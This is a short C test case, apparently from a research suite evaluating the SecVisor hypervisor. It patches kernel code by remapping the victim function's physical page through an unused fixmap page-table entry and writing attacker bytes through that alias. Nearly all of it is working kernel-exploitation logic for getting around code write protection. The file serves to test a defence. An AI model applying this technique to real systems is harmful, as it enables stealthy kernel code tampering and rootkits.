// Row 3. Kernel text written through an entry of the fixmap that is not in use.
// Source: text_poke of older kernels used the fixmap.
// Ends: natively succeeded; beneath SecVisor restored, tampered.
#include "common/attack.h"

ATTACK("text-fixmap")
{
	u64 at = symbol(VICTIM);
	u8 approved[CODE_LENGTH];
	long before = victim();

	kread(at, approved, sizeof(approved));
	keep_bytes(at, sizeof(approved));
	u64 table = symbol("level1_fixmap_pgt"), upper = symbol("level2_fixmap_pgt"), alias = 0;

	for (u64 i = 511; i > 256 && !alias; i--) {
		u64 entry = kread64(upper + 8 * i);

		if (!(entry & PRESENT) || (entry & LARGE) || (entry & FRAME) != physical(table))
			continue;
		for (u64 k = 0; k < 512 && !alias; k++) {
			if (kread64(table + 8 * k))
				continue;
			poke(table + 8 * k, (physical(at) & FRAME) | KERNEL_DATA);
			alias = 0xffffffffc0000000ull + (i << 21) + (k << 12) + (at & (PAGE - 1));
		}
	}
	if (!alias)
		failed("no free entry in the fixmap");
	flush(alias);
	operate(VULNERABLE_STORE, alias, *(const u64 *)CODE, 8);
	operate(VULNERABLE_STORE, alias + 8, *(const u16 *)(CODE + 8), 2);
	judge_victim(before, approved, "through the fixmap");
}
